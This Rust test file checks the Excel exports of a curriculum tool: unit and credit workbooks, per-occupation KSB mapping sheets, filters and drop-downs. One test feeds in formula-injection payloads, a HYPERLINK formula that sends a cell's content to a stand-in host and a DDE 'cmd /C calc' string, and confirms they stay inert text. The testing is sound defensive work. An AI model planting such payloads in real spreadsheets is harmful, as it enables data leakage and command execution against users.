//! The submission workbooks read back cell by cell: the structure workbook holds every unit,
//! rule and credit total of the curriculum; the mapping workbook holds, per claimed
//! occupation, one row per KSB it needs with the same cells as the mapping CSV. The sheets'
//! furniture (frozen headings, filters, the coverage drop-down, the title in the printed
//! header) is read from the sheet XML, and hostile text stays text.

use calamine::{Data, Range, Reader, Xlsx};
use htq_core::analysis::{analyse, claimed};
use htq_core::export::{mapping_csv, mapping_xlsx, structure_xlsx};
use htq_core::model::{Curriculum, Edit};
use std::io::{Cursor, Read};
use std::path::Path;

type Result<T = ()> = std::result::Result<T, Box<dyn std::error::Error>>;

/// The row of column headings (0-based); units and KSBs start on the row after.
const HEADINGS: u32 = 3;

fn shipped(name: &str) -> Curriculum {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../curricula")
        .join(name);
    htq_core::store::load(&path).expect("the shipped curriculum loads")
}

fn open(bytes: &[u8]) -> Result<Xlsx<Cursor<Vec<u8>>>> {
    Ok(Xlsx::new(Cursor::new(bytes.to_vec()))?)
}

/// A cell as text ("" when empty; whole numbers without a decimal point).
fn cell(range: &Range<Data>, row: u32, column: u32) -> String {
    range
        .get_value((row, column))
        .map_or_else(String::new, ToString::to_string)
}

/// The cells of `row` from column 0 on, `columns` of them.
fn row_cells(range: &Range<Data>, row: u32, columns: u32) -> Vec<String> {
    (0..columns)
        .map(|column| cell(range, row, column))
        .collect()
}

/// The XML of the `n`th sheet (1-based) of a workbook.
fn sheet_xml(bytes: &[u8], n: usize) -> Result<String> {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes))?;
    let mut xml = String::new();
    archive
        .by_name(&format!("xl/worksheets/sheet{n}.xml"))?
        .read_to_string(&mut xml)?;
    Ok(xml)
}

#[test]
fn the_structure_workbook_holds_every_unit_rule_and_total() -> Result {
    let doc = shipped("medtech-htq.ron");
    let bytes = structure_xlsx(&doc)?;
    let mut book = open(&bytes)?;
    assert_eq!(
        book.sheet_names(),
        ["Units", "Rules of combination", "Credit totals"]
    );
    let title = doc.qualification.title.trim();

    let units = book.worksheet_range("Units")?;
    assert_eq!(cell(&units, 0, 0), title);
    assert_eq!(
        row_cells(&units, HEADINGS, 7),
        [
            "Number",
            "Title",
            "Level",
            "Credits",
            "GLH",
            "Theme",
            "Mandatory or group"
        ]
    );
    let rules = &doc.qualification.rules;
    for (row, unit) in (HEADINGS + 1..).zip(&doc.units) {
        let role = if rules.mandatory.contains(&unit.id) {
            "Mandatory".to_owned()
        } else {
            rules
                .groups
                .iter()
                .find(|g| g.units.contains(&unit.id))
                .map_or("Not offered".to_owned(), |g| g.title.trim().to_owned())
        };
        assert_eq!(
            row_cells(&units, row, 7),
            [
                unit.number.clone(),
                unit.title.clone(),
                unit.level.to_string(),
                unit.credits.to_string(),
                unit.glh.to_string(),
                unit.theme.label().to_owned(),
                role,
            ],
            "unit {}",
            unit.number
        );
    }
    assert_eq!(units.end(), Some((HEADINGS + doc.units.len() as u32, 6)));

    let combination = book.worksheet_range("Rules of combination")?;
    let summary = doc.credit_summary();
    assert_eq!(cell(&combination, HEADINGS + 1, 0), "Mandatory units");
    assert_eq!(
        cell(&combination, HEADINGS + 1, 2),
        summary.mandatory.to_string()
    );
    for (row, group) in (HEADINGS + 2..).zip(&rules.groups) {
        assert_eq!(cell(&combination, row, 0), group.title.trim());
        let numbers: Vec<&str> = doc
            .units
            .iter()
            .filter(|u| group.units.contains(&u.id))
            .map(|u| u.number.trim())
            .collect();
        assert_eq!(cell(&combination, row, 1), numbers.join(", "));
        let bound = |b: Option<u32>| b.map_or(String::new(), |b| b.to_string());
        assert_eq!(
            row_cells(&combination, row, 6)[2..],
            [
                bound(group.min_credits),
                bound(group.max_credits),
                bound(group.min_units),
                bound(group.max_units)
            ]
        );
    }
    let last = combination.end().map_or(0, |(row, _)| row);
    assert_eq!(
        cell(&combination, last, 0),
        "Total credits of every programme"
    );
    assert_eq!(
        cell(&combination, last, 2),
        doc.qualification.total_credits.to_string()
    );

    let totals = book.worksheet_range("Credit totals")?;
    assert_eq!(
        row_cells(&totals, HEADINGS + 1, 2),
        ["Mandatory units".to_owned(), summary.mandatory.to_string()]
    );
    let xml = sheet_xml(&bytes, 1)?;
    assert!(
        xml.contains(r#"<pane ySplit="4" topLeftCell="A5""#),
        "{xml}"
    );
    assert!(
        xml.contains("<autoFilter ref=\"A4:G"),
        "filters on the headings"
    );
    assert!(xml.contains(&format!("<oddHeader>&amp;C&amp;\"Calibri,Bold\"{title}")));
    Ok(())
}

#[test]
fn the_mapping_workbook_has_a_sheet_per_claimed_occupation_and_a_row_per_ksb() -> Result {
    let doc = shipped("medtech-htq-draft.ron");
    let occupations = claimed(&doc);
    assert!(occupations.len() >= 2, "the draft claims several");
    let bytes = mapping_xlsx(&doc)?;
    let mut book = open(&bytes)?;
    let names = book.sheet_names();
    assert_eq!(names.len(), occupations.len());

    let csv = mapping_csv::mapping_csv(&doc);
    let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let csv_rows: Vec<csv::StringRecord> =
        reader.records().collect::<std::result::Result<_, _>>()?;
    let analysis = analyse(&doc);
    for ((name, occupation), coverage) in names
        .iter()
        .zip(&occupations)
        .zip(&analysis.occupations.occupations)
    {
        let sheet = book.worksheet_range(name)?;
        assert_eq!(cell(&sheet, 0, 0), doc.qualification.title.trim());
        assert_eq!(
            cell(&sheet, 1, 0),
            format!("{}: {}", occupation.name, coverage.summary(&doc))
        );
        assert_eq!(
            row_cells(&sheet, HEADINGS, 8),
            [
                "Code",
                "Kind",
                "Statement",
                "Units",
                "Learning outcomes",
                "Coverage",
                "Justification",
                "Pathway status"
            ]
        );
        let standard = doc
            .standard(&occupation.standard)
            .expect("claimed standard");
        for (row, id) in (HEADINGS + 1..).zip(&occupation.ksbs) {
            let ksb = standard.ksbs.iter().find(|k| &k.id == id).expect("its KSB");
            let from_csv = csv_rows
                .iter()
                .find(|r| r[0] == standard.reference && r[1] == ksb.code)
                .expect("a CSV row per KSB");
            assert_eq!(
                row_cells(&sheet, row, 8),
                [
                    &from_csv[1],
                    &from_csv[2],
                    &from_csv[3],
                    &from_csv[4],
                    &from_csv[5],
                    &from_csv[6],
                    &from_csv[8],
                    &from_csv[7]
                ],
                "{name} {}",
                ksb.code
            );
        }
        assert_eq!(
            sheet.end().map(|(row, _)| row),
            Some(HEADINGS + occupation.ksbs.len() as u32),
            "{name}: one row per KSB of the occupation, no more"
        );
    }
    let xml = sheet_xml(&bytes, 1)?;
    assert!(xml.contains(r#"<pane ySplit="4" topLeftCell="A5""#));
    assert!(xml.contains("<autoFilter ref=\"A4:H"));
    assert!(
        xml.contains(r#"<formula1>"Full,Partial,None"</formula1>"#),
        "a coverage drop-down: {xml}"
    );
    assert!(xml.contains(r#"sqref="F5:F"#), "on the coverage column");
    Ok(())
}

#[test]
fn a_qualification_claiming_nothing_gets_one_sheet_of_every_ksb() -> Result {
    let mut doc = shipped("medtech-htq.ron");
    doc.apply(Edit::SetClaims(Vec::new()))?;
    let mut book = open(&mapping_xlsx(&doc)?)?;
    assert_eq!(book.sheet_names(), ["KSB mapping"]);
    let sheet = book.worksheet_range("KSB mapping")?;
    let every: usize = doc.standards.iter().map(|s| s.ksbs.len()).sum();
    assert_eq!(
        sheet.end().map(|(row, _)| row),
        Some(HEADINGS + every as u32)
    );
    Ok(())
}

#[test]
fn hostile_text_stays_text_and_long_text_is_cut_with_a_note() -> Result {
    let mut doc = shipped("medtech-htq.ron");
    let hostile = "=HYPERLINK(\"https://example.invalid/?\"&A1,\"Click\")";
    let long = "a".repeat(40_000);
    let mut edited = doc.standards[0].clone();
    edited.ksbs[0].text = hostile.to_owned();
    edited.ksbs[1].text = long.clone();
    doc.apply(Edit::ReplaceStandard {
        standard: Box::new(edited),
    })?;
    doc.units[0].title = "-1+cmd|' /C calc'!A0".to_owned();

    let bytes = mapping_xlsx(&doc)?;
    let mut book = open(&bytes)?;
    let first = book.sheet_names()[0].clone();
    let sheet = book.worksheet_range(&first)?;
    assert_eq!(cell(&sheet, HEADINGS + 1, 2), hostile);
    let cut = cell(&sheet, HEADINGS + 2, 2);
    assert_eq!(cut.chars().count(), 32_767);
    assert!(cut.ends_with(" [cut: the full text is in the specification]"));
    let xml = sheet_xml(&bytes, 1)?;
    assert!(!xml.contains("<f>"), "no formula in any cell");

    let bytes = structure_xlsx(&doc)?;
    let units = open(&bytes)?.worksheet_range("Units")?;
    assert_eq!(cell(&units, HEADINGS + 1, 1), "-1+cmd|' /C calc'!A0");
    let mut styles = String::new();
    zip::ZipArchive::new(Cursor::new(&bytes))?
        .by_name("xl/styles.xml")?
        .read_to_string(&mut styles)?;
    assert!(
        styles.contains(r#"quotePrefix="1""#),
        "text that starts like a formula carries the quote prefix"
    );
    Ok(())
}
